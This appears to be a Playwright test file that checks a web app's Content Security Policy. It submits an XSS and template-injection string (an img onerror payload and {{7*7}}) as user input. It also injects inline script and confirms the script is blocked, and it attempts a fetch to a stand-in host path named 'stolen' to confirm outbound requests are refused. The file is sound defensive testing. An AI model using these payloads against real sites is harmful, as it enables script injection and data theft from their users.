"""What guards the pages does not stand in their way, and does stand in the way of strangers."""

from __future__ import annotations

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.browser.screen import Screen

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

_MARKUP = '"><img src=x onerror=alert(1)> :red[x] **b** {{7*7}}'


def complaints(page: Page) -> list[str]:
    """What the browser blocks, reports or cannot run, from now on."""
    found: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if message.type == "error" or "Content Security Policy" in message.text:
            found.append(message.text)

    page.on("console", note)
    page.on("pageerror", lambda error: found.append(str(error)))
    page.on("dialog", lambda dialog: found.append(f"dialog: {dialog.message}"))
    return found


def test_a_persons_whole_way_breaks_no_rule_of_the_pages(page: Page, app_url: str) -> None:
    found = complaints(page)
    screen = Screen(page, app_url).open("/")
    screen.make(_MARKUP).wait_for_video()
    page.reload()
    screen.settled()
    screen.go_to_history()
    film = page.get_by_role("article")
    expect(film.get_by_role("button", name="Play")).to_be_visible()
    film.get_by_role("button", name="Play").click()
    expect(film.locator("video")).to_have_js_property("paused", value=False)
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_text("Your sky is empty")).to_be_visible()
    assert found == []


def test_a_script_that_got_into_a_page_would_not_run(screen: Screen) -> None:
    ran = screen.page.evaluate(
        """() => {
            const script = document.createElement("script")
            script.textContent = "window.ran = true"
            document.body.append(script)
            const image = document.createElement("img")
            image.setAttribute("onerror", "window.ran = true")
            image.src = "/no-such-picture"
            document.body.append(image)
            return new Promise(done => image.addEventListener("error", () => done(window.ran === true)))
        }"""
    )
    assert ran is False


def test_a_page_can_send_nothing_elsewhere(screen: Screen) -> None:
    refused = screen.page.evaluate(
        """() => new Promise(done => {
            document.addEventListener("securitypolicyviolation", event => done(event.blockedURI))
            fetch("https://elsewhere.invalid/stolen").catch(() => {})
        })"""
    )
    assert "elsewhere.invalid" in refused
